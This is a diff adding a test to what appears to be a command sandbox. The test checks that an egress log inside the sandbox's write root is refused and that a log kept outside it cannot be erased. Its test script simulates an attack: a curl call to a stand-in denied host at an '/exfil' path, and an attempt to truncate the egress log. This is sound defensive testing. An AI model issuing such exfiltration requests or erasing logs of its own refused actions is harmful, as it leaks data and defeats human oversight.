@@ -426,3 +426,40 @@ def test_a_status_file_in_a_write_root_cannot_be_swapped_for_a_forged_one(tmp_pa
     assert appended.returncode == 0, appended
     doc = json.loads((work / "status.json").read_text())  # one document: nothing of the command's after it
     assert doc["outcome"] in ("exec", "exited") and "forged" not in (work / "status.json").read_text()
+
+
+def test_the_egress_log_cannot_be_where_the_command_rewrites_it(tmp_path):
+    """`--egress-log` is appended by the proxy while the command runs: inside a write root the
+    command erased the record of a refused exfiltration (`: > egress.jsonl`, rc 0). Now such a
+    path is refused before anything runs (exit 2, naming the option and the fix), as the gate
+    refuses its reports there. Twin: a log outside the write roots keeps the refusal, and the
+    command cannot touch it. Host side: the log's lines, the marker the command would make."""
+    import shutil
+
+    if not shutil.which("curl"):
+        pytest.skip("needs curl")
+    work = tmp_path / "w"
+    work.mkdir()
+    hosts = tmp_path / "hosts"
+    hosts.write_text("127.0.0.1 allowed.test denied.test\n")
+    policy = tmp_path / "p.toml"
+    policy.write_text('version = 1\n[fs]\nread = ["/usr", "/etc", "/lib", "/lib64", "/bin"]\n'
+                      'exec = ["/usr/bin", "/bin", "/usr/lib"]\nwrite = ["%s"]\n'
+                      '[net]\ndomains = ["allowed.test:9"]\nprivate = ["127.0.0.0/8"]\n' % work)
+    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "SANDBOY_CACHE_DIR": str(tmp_path / "cache"),
+           "SANDBOY_EGRESS_HOSTS": str(hosts)}
+    script = ('touch ran; curl -s -o /dev/null -w "%{http_code}\\n" http://denied.test:9/exfil; '
+              '(: > "$1") 2>/dev/null && echo ERASED; exit 0')
+
+    def run(log):
+        return subprocess.run([SANDBOY, "run", "--policy", str(policy), "--egress-log", str(log), "--",
+                               "/bin/sh", "-c", script, "sh", str(log)],
+                              env=env, cwd=work, capture_output=True, text=True, timeout=60)
+
+    inside = run(work / "egress.jsonl")
+    assert inside.returncode == 2 and "--egress-log" in inside.stderr and "write roots" in inside.stderr, inside
+    assert not (work / "ran").exists() and not (work / "egress.jsonl").exists()  # nothing ran
+    outside = run(tmp_path / "egress.jsonl")
+    assert outside.returncode == 0 and "403" in outside.stdout and "ERASED" not in outside.stdout, outside
+    decisions = [json.loads(line) for line in (tmp_path / "egress.jsonl").read_text().splitlines()]
+    assert [(d["decision"], d["host"]) for d in decisions] == [("deny", "denied.test")]
